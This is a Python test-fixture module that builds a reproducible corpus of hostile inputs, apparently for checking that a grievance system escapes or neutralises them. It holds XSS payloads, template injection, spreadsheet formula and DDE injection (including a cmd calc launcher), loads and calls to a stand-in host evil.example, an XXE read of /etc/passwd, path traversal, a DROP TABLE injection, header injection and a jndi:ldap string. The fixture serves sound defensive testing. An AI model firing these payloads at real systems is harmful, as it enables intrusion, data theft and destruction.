"""Hostile texts: what somebody might write to make a page, a sheet or another program do something.

`corpus(count, seed)` is the same for the same arguments. Every text says its number, so that whatever happens can be
traced to it, and whatever executes calls `hit(number)`.
"""

from __future__ import annotations

import random
from typing import Final

HIT: Final = "hit"  # the function a page would have called, had anything executed

# {n} is the text's number.
SCRIPTS: Final = (
    "<script>hit({n})</script>",
    "<SCRIPT SRC=//evil.example/{n}.js></SCRIPT>",
    '"><img src=x onerror=hit({n})>',
    "'><svg/onload=hit({n})>",
    "<svg><script>hit({n})</script></svg>",
    '<iframe srcdoc="<script>parent.hit({n})</script>"></iframe>',
    '<a href="javascript:hit({n})">klik</a>',
    "javascript:hit({n})//",
    "<details open ontoggle=hit({n})>",
    "<math><mtext><style><img src onerror=hit({n})></style></mtext></math>",
    "</textarea><script>hit({n})</script>",
    "</title><script>hit({n})</script>",
    "--></style></script><script>hit({n})</script>",
    "<body onload=hit({n})>",
    "<input autofocus onfocus=hit({n})>",
    "{{{{constructor.constructor('hit({n})')()}}}}",
    "${{hit({n})}}",
    "{{% print(hit({n})) %}}",
    "<div hx-get=/console/logout hx-trigger=load>{n}</div>",
    '<div data-hx-on:load="hit({n})">x</div>',
    "<style>@import '//evil.example/{n}.css';*{{background:url(//evil.example/{n})}}</style>",
    "<link rel=stylesheet href=//evil.example/{n}.css>",
    '<meta http-equiv=refresh content="0;url=//evil.example/{n}">',
    "<base href=//evil.example/{n}/>",
    "<form action=//evil.example/{n}><button>Kirim</button></form>",
    "&lt;script&gt;hit({n})&lt;/script&gt;",
    "\\u003cscript\\u003ehit({n})\\u003c/script\\u003e",
    "%3Cscript%3Ehit({n})%3C/script%3E",
    "＜script＞hit({n})＜/script＞",
    "<scr\x00ipt>hit({n})</scr\x00ipt>",
    "<![CDATA[<script>hit({n})</script>]]>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;{n}</a>",
)
FORMULAS: Final = (
    "=1+{n}",
    "=cmd|' /C calc'!A{n}",
    '=HYPERLINK("http://evil.example/{n}","klik")',
    '=IMPORTXML("http://evil.example/{n}","//a")',
    '=WEBSERVICE("http://evil.example/{n}")',
    "+1+{n}",
    "-2+3+{n}",
    "@SUM(1+{n})",
    "\t=1+{n}",
    "\r=1+{n}",
    "\n=1+{n}",
    " =1+{n}",
    "＝1+{n}",
    "＋1+{n}",
    "－1+{n}",
    "＠SUM({n})",
    "\u200b=1+{n}",
    "\ufeff=1+{n}",
    "'=1+{n}",
    '"=1+{n}',
    ";=1+{n}",
    ",=1+{n}",
    "|=1+{n}",
    "%0A=1+{n}",
    'DDE("cmd";"/C calc";"{n}")',
    "{{=1+{n}}}",
    "http://evil.example/{n}",
    "file:///etc/passwd?{n}",
    "0{n}e5",
    "00{n}",
)
MARKS: Final = (
    "\u202e{n} nisuy",  # right to left override
    "\u2066{n}\u2067abc\u2069",
    "\u200f{n}\u200e",
    "مرحبا {n} שלום",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307{n}" * 3,
    "\u0000{n}",
    "\x01\x02\x03\x1b[31m{n}\x07\x08",
    "{n}\u2028satu\u2029dua",
    "{n}\ufffe\uffff",
    "\U000e0041\U000e0042{n}",
    "👩‍👩‍👧‍👦{n}🇮🇩",
    "{n}\u00ad\u034f\u061c\u180e",
    "\ud7ff{n}\ue000",
    "W" * 300 + "{n}",
    "{n} " + "satu " * 200,
    "',''); DROP TABLE grievance; --{n}",
    "%s%n%x{n}",
    "../../../etc/passwd?{n}",
    "{n}\r\nSet-Cookie: a=b",
    "{n}\r\nBEGIN:VEVENT\r\nSUMMARY:palsu\r\nEND:VEVENT",
    '"{n}","a"\n"b"',
    "{n}\\;\\,\\n",
    "NULL{n}",
    "${{jndi:ldap://evil.example/{n}}}",
)
_AROUND: Final = ("", "", "Pak RT minta uang ", "kartu belum datang ", "abdi teu acan nampi ", "Tolong dibantu. ")


def corpus(count: int, seed: int) -> list[str]:
    """So many texts: each of the kinds once, then kinds joined, broken in two, doubled, and wrapped in plain words."""
    chance = random.Random(seed)
    kinds = (*SCRIPTS, *FORMULAS, *MARKS)
    texts: list[str] = []
    for number in range(count):
        text = kinds[number % len(kinds)].format(n=number)
        if number >= len(kinds):
            text = _bent(text, number, chance, kinds)
        texts.append(text[:600])
    return texts


def _bent(text: str, number: int, chance: random.Random, kinds: tuple[str, ...]) -> str:
    match chance.randrange(6):
        case 0:
            return text + chance.choice(kinds).format(n=number)
        case 1:
            cut = chance.randrange(len(text) + 1)
            return text[:cut] + chance.choice(("\u200b", "\t", "\r\n", "\x00", "\u202e", " ")) + text[cut:]
        case 2:
            return chance.choice(_AROUND) + text + " terima kasih"
        case 3:
            return text.swapcase().replace(HIT.upper(), HIT)
        case 4:
            return text * 2
        case _:
            return chance.choice(MARKS).format(n=number) + text
